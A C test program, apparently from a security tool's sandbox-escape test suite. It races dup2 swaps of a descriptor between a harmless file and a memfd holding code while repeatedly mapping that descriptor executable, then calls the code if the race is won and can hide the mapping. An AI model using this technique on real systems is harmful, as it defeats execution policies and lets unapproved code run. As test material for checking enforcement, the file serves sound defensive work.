/* SPDX-License-Identifier: BSD-2-Clause */

/*
 * Maps a descriptor's file executable, over and over, while another thread makes that descriptor
 * mean a memfd with code in it and then again the harmless file:
 *
 *   dup2 FILE SECONDS [process|hide]   process: not a thread, but a process that shares descriptors
 *                                      hide: and unmap at once what was won
 *
 * It prints "WON attempts" at the first mapping that holds the code, calls it, then goes on with
 * ordinary calls for two seconds and prints "ALIVE" if nobody ended it. Otherwise "LOST attempts".
 */

#include "tests/escape/attack.h"
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <stdatomic.h>
#include <time.h>
#include "tests/escape/race/race.h"

static int good, evil, slot;
static atomic_int stop;

static void *swap(void *arg)
{
	while (!stop) {
		dup2(good, slot);
		dup2(evil, slot);
	}
	return NULL;
}

static int swap_in_process(void *arg)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	swap(NULL);
	return 0;
}

static pid_t start_process(void)
{
	static char stack[65536] __attribute__((aligned(16)));

	return clone(swap_in_process, stack + sizeof(stack), CLONE_FILES | SIGCHLD, NULL);
}

int main(int argc, char **argv)
{
	double end = race_now() + (argc >= 3 ? atof(argv[2]) : 1.0);
	pthread_t thread = 0;
	int hides = argc == 4 && attack_is(argv[3], "hide");
	pid_t pid = 0;
	long n = 0;

	good = argc >= 3 ? open(argv[1], O_RDONLY) : -1;
	evil = memfd_create("object", 0);
	if (good < 0 || write(evil, attack_code, sizeof(attack_code)) != sizeof(attack_code))
		attack_broken("open");
	slot = dup(good);
	if (argc == 4 && !hides)
		pid = start_process();
	if (pid < 0 || (!pid && pthread_create(&thread, NULL, swap, NULL)))
		attack_broken("start");
	for (; race_now() < end; n++) {
		void *p = mmap(NULL, ATTACK_PAGE, ATTACK_RX, MAP_PRIVATE, slot, 0);

		if (p == MAP_FAILED)
			continue;
		if (!memcmp(p, attack_code, sizeof(attack_code)))
			race_won(n, p, hides);
		munmap(p, ATTACK_PAGE);
	}
	stop = 1;
	if (pid)
		kill(pid, SIGKILL);
	else
		pthread_join(thread, NULL);
	printf("LOST %ld\n", n);
	return 1;
}
